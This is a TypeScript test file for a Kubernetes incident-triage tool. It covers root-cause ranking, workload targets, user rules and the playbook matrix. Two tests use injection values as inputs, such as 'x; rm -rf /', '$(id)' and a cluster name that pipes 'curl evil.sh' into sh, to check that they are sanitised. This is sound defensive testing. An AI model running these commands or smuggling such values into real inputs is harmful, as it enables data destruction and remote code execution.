// Triage's rules, ranking, targets, user rules and matrix, through the domain API.
import { parseConfig, type KubemendConfig } from '../../src/config/config.js';
import { buildMatrix, labelledCategories } from '../../src/triage/matrix.js';
import { triagePayload, type TriagedIncident } from '../../src/triage/triage.js';
import { DEFAULT_CONFIG } from './corpus.js';

const one = (payload: unknown, config: KubemendConfig = DEFAULT_CONFIG): TriagedIncident => {
  const { incidents } = triagePayload(payload, { cluster: 'prod', config });
  expect(incidents).toHaveLength(1);
  return incidents[0]!;
};
const names = (incident: TriagedIncident) => incident.categories.map((c) => c.name);
const config = (yaml: string) => parseConfig(yaml, '.github/kubemend.yml');

/** A kubelet BackOff event whose pod's last termination was the OOM killer. */
const backOffAfterOom = {
  event: {
    type: 'Warning',
    reason: 'BackOff',
    message: 'Back-off restarting failed container api in pod api-7c9d8f6b5-x2x9k_shop(3f2a)',
    count: 31,
  },
  involved_object: { kind: 'Pod', name: 'api-7c9d8f6b5-x2x9k', namespace: 'shop' },
  context: {
    nodeName: 'worker-3',
    ownerReferences: [{ kind: 'ReplicaSet', name: 'api-7c9d8f6b5' }],
    containerStatuses: [
      {
        name: 'api',
        restartCount: 9,
        state: {
          waiting: {
            reason: 'CrashLoopBackOff',
            message: 'back-off 5m0s restarting failed container=api',
          },
        },
        lastState: { terminated: { reason: 'OOMKilled', exitCode: 137 } },
      },
      {
        name: 'envoy',
        restartCount: 0,
        ready: true,
        state: { running: { startedAt: '2026-11-22T01:00:00Z' } },
      },
    ],
  },
};

/** An Argo CD on-health-degraded notification whose pods cannot pull their image. */
const argoDegradedByPull = {
  app_name: 'shop-frontend',
  health_status: 'Degraded',
  sync_status: 'Synced',
  dest_namespace: 'shop',
  resources: [
    {
      version: 'v1',
      kind: 'Service',
      namespace: 'shop',
      name: 'frontend',
      status: 'Synced',
      health: { status: 'Healthy' },
    },
    {
      group: 'apps',
      version: 'v1',
      kind: 'Deployment',
      namespace: 'shop',
      name: 'frontend',
      status: 'Synced',
      health: {
        status: 'Degraded',
        message: 'Deployment "frontend" exceeded its progress deadline',
      },
    },
    {
      version: 'v1',
      kind: 'Pod',
      namespace: 'shop',
      name: 'frontend-6d8f7c9b54-q8w7z',
      status: 'Synced',
      health: {
        status: 'Degraded',
        message: 'Back-off pulling image "ghcr.io/acme/frontend:v2.3.1"',
      },
    },
  ],
};

describe('root cause over symptom', () => {
  it('an OOMKilled last state behind a BackOff event ranks oom over crash-loop, each with its evidence', () => {
    const incident = one(backOffAfterOom);
    expect(names(incident).slice(0, 2)).toEqual(['oom', 'crash-loop']);
    const [oom, crashLoop] = incident.categories;
    expect(oom!.evidence[0]).toMatchObject({
      path: 'context.containerStatuses[0].lastState.terminated.reason',
      match: 'OOMKilled',
    });
    expect(crashLoop).toMatchObject({ symptomOf: 'oom', runs: 'instead' });
    expect(crashLoop!.confidence).toBeLessThan(oom!.confidence);
    expect(crashLoop!.evidence.map((e) => e.path)).toContain('event.message');
  });

  it('the same BackOff after an application error is a crash loop', () => {
    const crashed = structuredClone(backOffAfterOom);
    crashed.context.containerStatuses[0]!.lastState = {
      terminated: { reason: 'Error', exitCode: 1 },
    };
    expect(names(one(crashed))[0]).toBe('crash-loop');
  });

  it('an Argo CD Degraded report whose pod shows ImagePullBackOff ranks image-pull first and argocd second', () => {
    const incident = one(argoDegradedByPull);
    expect(names(incident).slice(0, 2)).toEqual(['image-pull', 'argocd']);
    expect(incident.categories[0]!.evidence[0]).toMatchObject({
      path: 'resources[2].health.message',
      match: 'Back-off pulling image',
    });
    expect(incident.categories[1]).toMatchObject({ symptomOf: 'image-pull', runs: 'also' });
  });

  it('an Argo CD app degraded with no resource-level cause is an argocd problem', () => {
    const incident = one({
      ...argoDegradedByPull,
      resources: argoDegradedByPull.resources.slice(0, 2),
    });
    expect(names(incident)[0]).toBe('argocd');
  });

  it('a scheduling failure on unbound claims ranks storage first', () => {
    const incident = one({
      event: {
        type: 'Warning',
        reason: 'FailedScheduling',
        message:
          '0/3 nodes are available: pod has unbound immediate PersistentVolumeClaims. preemption: 0/3 nodes are available: 3 Preemption is not helpful for scheduling.',
      },
      involved_object: { kind: 'Pod', name: 'postgres-0', namespace: 'db' },
    });
    expect(names(incident).slice(0, 2)).toEqual(['storage', 'scheduling']);
  });

  it('reads an alert name forwarded in a generic title (Grafana, ntfy) as the alertname label', () => {
    const incident = one({
      title: '[FIRING:1] KubeJobFailed billing (invoice-export-29764125)',
      cluster: 'prod',
    });
    expect(incident.categories[0]).toMatchObject({
      name: 'workload',
      evidence: [expect.objectContaining({ path: 'title', match: 'KubeJobFailed' })],
    });
  });

  it('does not find an OOM in KubeletTooManyPods, whatever the case of the words', () => {
    const incident = one({
      version: '4',
      groupKey: 'g',
      alerts: [
        {
          status: 'firing',
          labels: { alertname: 'KubeletTooManyPods', node: 'worker-1', cluster: 'prod' },
        },
      ],
    });
    expect(names(incident)).toEqual(['node']);
  });

  it('an alert nothing matches is unknown, with its name as the evidence', () => {
    const incident = one({ title: 'Quarterly report generator is slow', cluster: 'prod' });
    expect(incident.categories).toEqual([
      expect.objectContaining({
        name: 'unknown',
        confidence: 0.3,
        evidence: [expect.objectContaining({ path: 'title' })],
      }),
    ]);
  });
});

describe('targets', () => {
  it('name the owner, the troubled containers and the node from the watcher context', () => {
    expect(one(backOffAfterOom).targets).toEqual({
      cluster: 'prod',
      namespace: 'shop',
      workload: { kind: 'Deployment', name: 'api' },
      pods: ['api-7c9d8f6b5-x2x9k'],
      containers: ['api'],
      node: 'worker-3',
    });
  });

  const alert = (labels: Record<string, string>, annotations: Record<string, string> = {}) => ({
    version: '4',
    groupKey: '{}:{alertname="x"}',
    status: 'firing',
    alerts: [
      {
        status: 'firing',
        labels: { cluster: 'prod', severity: 'warning', ...labels },
        annotations,
      },
    ],
  });

  it("take the affected object's namespace over the exporter's (cert-manager, Longhorn)", () => {
    const cert = one(
      alert({
        alertname: 'CertManagerCertExpirySoon',
        namespace: 'cert-manager',
        exported_namespace: 'shop',
        name: 'shop-tls',
      }),
    );
    expect(cert.targets.namespace).toBe('shop');
    expect(names(cert)[0]).toBe('certificate');
    const volume = one(
      alert({
        alertname: 'LonghornVolumeStatusWarning',
        namespace: 'longhorn-system',
        pvc_namespace: 'media',
        pvc: 'jellyfin-config',
        volume: 'pvc-0b7c4a7e-51b4-4cde-9f1c-2f8f0f7c1a11',
      }),
    );
    expect(volume.targets).toMatchObject({
      namespace: 'media',
      pvc: 'jellyfin-config',
      volume: 'pvc-0b7c4a7e-51b4-4cde-9f1c-2f8f0f7c1a11',
    });
  });

  it.each([
    ['store-front-7d9f8b6c4-xk2pq', { kind: 'Deployment', name: 'store-front' }],
    ['postgres-1', { kind: 'StatefulSet', name: 'postgres' }],
    ['backup-29012345-x7k2q', { kind: 'CronJob', name: 'backup' }],
    ['node-exporter-x2x9k', { name: 'node-exporter' }],
    ['nginx-1978115907-qqxfg', { kind: 'Deployment', name: 'nginx' }],
  ])('derive the workload of pod %s from its name', (pod, workload) => {
    expect(
      one(alert({ alertname: 'KubePodNotReady', namespace: 'shop', pod })).targets.workload,
    ).toEqual(workload);
  });

  it("ignore kube-state-metrics' own pod label on a Job alert and name the Job", () => {
    const incident = one(
      alert({
        alertname: 'KubeJobFailed',
        namespace: 'firefly',
        job_name: 'cron-account-29169240',
        job: 'kube-state-metrics',
        pod: 'kube-prometheus-stack-kube-state-metrics-77678594d6-gsd29',
        container: 'kube-state-metrics',
      }),
    );
    expect(incident.targets).toMatchObject({
      workload: { kind: 'Job', name: 'cron-account-29169240' },
      pods: [],
      containers: [],
    });
  });

  it('read the Argo CD app and the unhealthy resources', () => {
    expect(one(argoDegradedByPull).targets).toMatchObject({
      app: 'shop-frontend',
      namespace: 'shop',
      workload: { kind: 'Deployment', name: 'frontend' },
      pods: ['frontend-6d8f7c9b54-q8w7z'],
    });
  });

  it('never take a name Kubernetes would refuse', () => {
    const incident = one({
      event: {
        type: 'Warning',
        reason: 'BackOff',
        message: 'Back-off restarting failed container',
      },
      involved_object: { kind: 'Pod', name: 'x; rm -rf /', namespace: '$(id)' },
      context: { nodeName: '`reboot`', containerStatuses: [{ name: 'A B', state: {} }] },
    });
    expect(incident.targets).toEqual({ cluster: 'prod', pods: [], containers: [] });
  });
});

describe('user rules', () => {
  const harbor = {
    event: {
      type: 'Warning',
      reason: 'Failed',
      message:
        'Failed to pull image "harbor.lab.example/apps/api:2.1": unexpected status code 503 Service Unavailable',
    },
    involved_object: { kind: 'Pod', name: 'api-7c9d8f6b5-x2x9k', namespace: 'shop' },
  };

  it('merge with the built-in rules and can override category, playbook and severity', () => {
    const incident = one(
      harbor,
      config(`
triage:
  rules:
    - name: harbor-down
      match: { message: 'harbor\\.lab\\.example.*503' }
      category: node
      playbook: workload
      severity: critical
      confidence: 0.99
`),
    );
    expect(incident.categories[0]).toMatchObject({
      name: 'node',
      playbook: 'workload',
      confidence: 0.99,
    });
    expect(incident.categories[0]!.evidence[0]).toMatchObject({
      rule: 'harbor-down',
      path: 'event.message',
    });
    expect(names(incident)).toContain('image-pull');
    expect(incident.severity).toBe('critical');
  });

  it('replace or turn off a built-in rule by its name', () => {
    const off = config(`
triage:
  rules:
    - { name: image-pull/failed-to-pull, match: { message: x }, category: image-pull, enabled: false }
    - { name: image-pull/registry-unreachable, match: { message: x }, category: image-pull, enabled: false }
`);
    expect(names(one(harbor, off))).not.toContain('image-pull');
    const none = config('triage: { builtin-rules: false }');
    expect(names(one(harbor, none))).toEqual(['unknown']);
  });

  it('match labels and annotations by name', () => {
    const incident = one(
      {
        version: '4',
        groupKey: 'g',
        alerts: [
          {
            status: 'firing',
            labels: { alertname: 'HomeAssistantDown', cluster: 'prod', team: 'home' },
            annotations: { summary: 'Home Assistant is unreachable' },
          },
        ],
      },
      config(`
triage:
  rules:
    - name: home
      match: { labels: { team: '^home$' }, annotations: { summary: unreachable } }
      category: workload
`),
    );
    expect(incident.categories[0]).toMatchObject({ name: 'workload', confidence: 0.9 });
    expect(incident.categories[0]!.evidence.map((e) => e.path)).toEqual([
      'labels.team',
      'annotations.summary',
    ]);
  });
});

describe('the playbook matrix', () => {
  it('runs the cause, and the symptoms that still need their own playbook after it', () => {
    const oom = one(backOffAfterOom);
    const argo = one(argoDegradedByPull);
    const matrix = buildMatrix(
      [
        { incident: oom, number: 7 },
        { incident: argo, number: 8 },
      ],
      DEFAULT_CONFIG,
    );
    expect(matrix.include.map((e) => [e.incident, e.playbook])).toEqual([
      [7, 'oom'],
      [8, 'image-pull'],
      [8, 'argocd'],
    ]);
    expect(matrix.include[0]).toEqual({
      playbook: 'oom',
      category: 'oom',
      confidence: oom.categories[0]!.confidence,
      incident: 7,
      id: oom.id,
      cluster: 'prod',
      'kubeconfig-secret': 'KUBECONFIG_PROD',
      targets: oom.targets,
      subjects: [{ ...oom.targets, cluster: 'prod' }],
    });
  });

  it("asks Flux to reconcile the failing HelmRelease, the incident's one subject", () => {
    const { incidents } = triagePayload(
      {
        involvedObject: { kind: 'HelmRelease', namespace: 'podinfo', name: 'podinfo' },
        severity: 'error',
        timestamp: '2026-11-22T03:00:00Z',
        message:
          'Helm upgrade failed for release podinfo/podinfo with chart podinfo@6.5.0: context deadline exceeded',
        reason: 'UpgradeFailed',
        metadata: { cluster: 'prod' },
        reportingController: 'helm-controller',
      },
      { cluster: undefined, config: DEFAULT_CONFIG },
    );
    const matrix = buildMatrix([{ incident: incidents[0]!, number: 4 }], DEFAULT_CONFIG);
    expect(matrix.include).toEqual([
      expect.objectContaining({
        playbook: 'flux',
        category: 'flux',
        incident: 4,
        subjects: [
          expect.objectContaining({
            namespace: 'podinfo',
            workload: { kind: 'HelmRelease', name: 'podinfo' },
          }),
        ],
      }),
    ]);
  });

  it('leaves out playbooks turned off, weak categories, unknown and resolved incidents', () => {
    const off = config('playbooks: { image-pull: { mode: off } }');
    expect(
      buildMatrix([{ incident: one(argoDegradedByPull, off), number: 1 }], off).include.map(
        (e) => e.playbook,
      ),
    ).toEqual(['argocd']);
    const strict = config('triage: { min-confidence: 0.99 }');
    expect(
      buildMatrix([{ incident: one(backOffAfterOom, strict), number: 1 }], strict).include,
    ).toEqual([]);
    const watchdog = one({
      version: '4',
      groupKey: 'g',
      alerts: [{ labels: { alertname: 'Watchdog', cluster: 'prod' } }],
    });
    expect(names(watchdog)).toEqual(['unknown']);
    expect(buildMatrix([{ incident: watchdog, number: 1 }], DEFAULT_CONFIG).include).toEqual([]);
    const resolved = one({ ...argoDegradedByPull, health_status: 'Healthy', resources: [] });
    expect(resolved.status).toBe('resolved');
    expect(buildMatrix([{ incident: resolved, number: 1 }], DEFAULT_CONFIG).include).toEqual([]);
  });

  it('labels confident categories, or the best guess when none is', () => {
    expect(labelledCategories(one(backOffAfterOom), DEFAULT_CONFIG)).toEqual(['oom', 'crash-loop']);
    expect(
      labelledCategories(one({ title: 'something odd', cluster: 'x' }), DEFAULT_CONFIG),
    ).toEqual(['unknown']);
  });

  it('carries a cluster name that could inject into a run: line only as a slug', () => {
    const incident = one({
      title: 'Disk full',
      cluster: 'prod"; curl evil.sh | sh; "',
      message: 'PVC data-postgres-0 is 95% full',
    });
    const [entry] = buildMatrix([{ incident, number: 1 }], DEFAULT_CONFIG).include;
    expect(entry?.cluster).toMatch(/^[a-z0-9-]+$/);
    expect(JSON.stringify(entry)).not.toMatch(/[;|"]\s*curl/);
  });
});
